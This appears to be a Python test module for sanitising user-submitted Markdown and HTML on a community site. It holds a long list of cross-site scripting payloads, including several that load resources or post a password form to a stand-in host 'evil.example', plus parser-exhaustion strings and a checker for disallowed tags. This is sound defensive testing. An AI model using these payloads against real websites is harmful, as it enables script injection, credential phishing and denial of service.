"""Attacks by Markdown and HTML, from the lists that those keep who attack and who defend. Each must come out harmless, wherever it is shown."""

from __future__ import annotations

from html.parser import HTMLParser

#: What a text of the community may consist of; `div`, `span` and `bdi` come from the site.
TAGS = frozenset(
    "p br hr strong em s a ul ol li blockquote code pre h2 h3 h4 table thead tbody tr th td div span bdi".split()  # noqa: SIM905
)
CLASSES = frozenset({"table-wrap", "mention", "mention mention--you"})

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/src=data:,alert(1)>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img/src=`x`onerror=alert(1)>",
    '<img src="x" onerror="&#97;lert(1)">',
    "<img srcset=https://evil.example/a.png>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a><set attributeName=href to=javascript:alert(1)></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)></svg>#x'/></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<select onchange=alert(1)><option>1</select>",
    "<textarea onfocus=alert(1) autofocus></textarea>",
    "<keygen onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;inset:0">x</p>',
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<title><img src=x onerror=alert(1)></title>",
    "<frameset onload=alert(1)>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=https://evil.example></layer>",
    "<xml id=x><a><b><script>alert(1)</script></b></a></xml>",
    "<?xml version='1.0'?><x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>alert(1)</h:script></x>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#9;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    "<a onclick=alert(1)>x</a>",
    "<a target=_blank href=https://evil.example>x</a>",
    "<a href=https://ok.example ping=https://evil.example>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](jav&#9;ascript:alert(1))",
    "[x](jav&Tab;ascript:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](livescript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](blob:https://evil.example/1)",
    "[x](feed:javascript:alert(1))",
    "[x](view-source:javascript:alert(1))",
    "[x](ms-word:ofe|u|https://evil.example/x.docx)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "[x](https://ok.example '><img src=x onerror=alert(1)>')",
    "[x](https://ok.example/\"onmouseover='alert(1)')",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x][y]\n\n[y]: https://ok.example "><script>alert(1)</script>"',
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<https://ok.example/><script>alert(1)</script>",
    "<x@evil.example?subject=<script>>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x](https://evil.example/a.png"onerror="alert(1))',
    '![x"onerror="alert(1)](https://evil.example/a.png)',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![![x](https://evil.example/1.png)](https://evil.example/2.png)",
    "[![x](https://evil.example/1.png)](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "~~~ javascript onload=alert(1)\nx\n~~~",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|:-:|-:|\n| <img src=x onerror=alert(1)> | ![](https://evil.example/p.png) |",
    "# <script>alert(1)</script>",
    "> <iframe src=javascript:alert(1)>",
    "- <svg onload=alert(1)>",
    "1. [x](javascript:alert(1))",
    "**<b onmouseover=alert(1)>x</b>**",
    "*[x](javascript:alert(1))*",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\ufeff<script>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<script>alert(1)</script>",
    'https://ok.example/"onmouseover=alert(1)//',
    "https://ok.example/<script>alert(1)</script>",
    "https://ok.example/'><img/src=x/onerror=alert(1)>",
    "http://user:password@evil.example/",
    "\ue0001\ue001<script>alert(1)</script>",
    "[\ue0001\ue001](https://ok.example/\ue0001\ue001)",
    "@<script>alert(1)</script>",
    "{{ 7*7 }}{% include 'x' %}${7*7}",
]

#: What takes parsers long, or makes them leave out words.
HOSTILE = {
    "emphasis": "*_" * 40_000,
    "brackets": "[](" * 40_000,
    "quotations": ">" * 5_000,
    "quotations with spaces": "> " * 5_000,
    "short emphasis": "*_" * 9_999,
    "short brackets": "[](" * 6_600,
    "pictures": "![" * 9_000,
    "stars and letters": "**a *" * 4_000,
    "a wide table": f"{'|a' * 500}\n{'|-' * 500}|\n" + "|\n" * 8_000,
    "nested lists": "\n".join(f"{'  ' * depth}- {depth}" for depth in range(120)),
    "ticks": "".join("`" * length + "a" for length in range(1, 180)),
    "entities": "&#1" * 6_000,
    "references": "[a]: " * 4_000,
}


class Reader(HTMLParser):
    """Reads HTML and notes what does not belong in a text of the community."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.harm: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.harm.append(f"<{tag}>")
        for name, value in attrs:
            given = value or ""
            is_fine = (
                (tag == "a" and name == "href" and is_harmless_address(given))
                or (tag == "a" and name == "rel" and given == "noopener nofollow")
                or (name == "class" and given in CLASSES)
                or (tag == "ol" and name == "start" and given.isdecimal())
            )
            if not is_fine:
                self.harm.append(f"{name}={given}")

    def handle_comment(self, data: str) -> None:
        self.harm.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.harm.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.harm.append(f"<?{data}")


def is_harmless_address(address: str) -> bool:
    is_here = address.startswith("/") and not address.startswith(("//", "/\\"))
    return is_here or address.lower().startswith(("https:", "http:", "mailto:"))


def harm_in(html: str) -> list[str]:
    """Return what does not belong in a text of the community."""
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.harm
